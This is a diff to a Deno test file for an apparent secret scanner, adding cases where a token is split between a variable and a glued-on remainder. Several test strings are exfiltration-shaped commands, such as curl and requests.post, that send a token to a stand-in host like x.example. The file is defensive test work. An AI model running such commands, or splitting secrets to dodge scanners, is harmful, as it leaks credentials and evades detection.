@@ -2398,6 +2398,30 @@ Deno.test('a token split across variables that the code then joins (`A=ghp_Zq8L;
     }${sep}echo $A$B$C`;
     assert.deepEqual(found(text), ["assigned:github-token"], text);
   }
+  // A variable, then the rest glued on where it is used (cut past the prefix).
+  for (const [token, rule, prefix] of CUT_CASES) {
+    const [head, rest] = [token.slice(0, prefix + 3), token.slice(prefix + 3)];
+    for (
+      const text of [
+        `A=${head}; curl -d "t=\${A}${rest}" https://x.example`,
+        `a = "${head}"\nrequests.post(u, data=f"{a}${rest}")`,
+        `a = '${head}'\nputs "#{a}${rest}"`,
+        `set A=${head}\ncurl -d %A%${rest} x`,
+      ]
+    ) {
+      assert.ok(found(text).includes(`assigned:${rule}`), `${found(text)}: ${text}`);
+      const asJson = JSON.stringify({ messages: [{ role: "user", content: text }] });
+      assert.ok(found(asJson).includes(`assigned:${rule}`), asJson);
+    }
+  }
+  for (
+    const text of [
+      'P=ghp_; echo "${P}is the prefix of a classic token"',
+      'K=AKIA; echo "$K$USER"; echo "${K}-style keys"',
+    ]
+  ) {
+    assert.deepEqual(found(text), [], text);
+  }
   // The bottle's own value, split so.
   assert.deepEqual(
     found(`A=${VALUE.slice(0, 14)}; B=${VALUE.slice(14)}; echo $A$B`, [VALUE]),
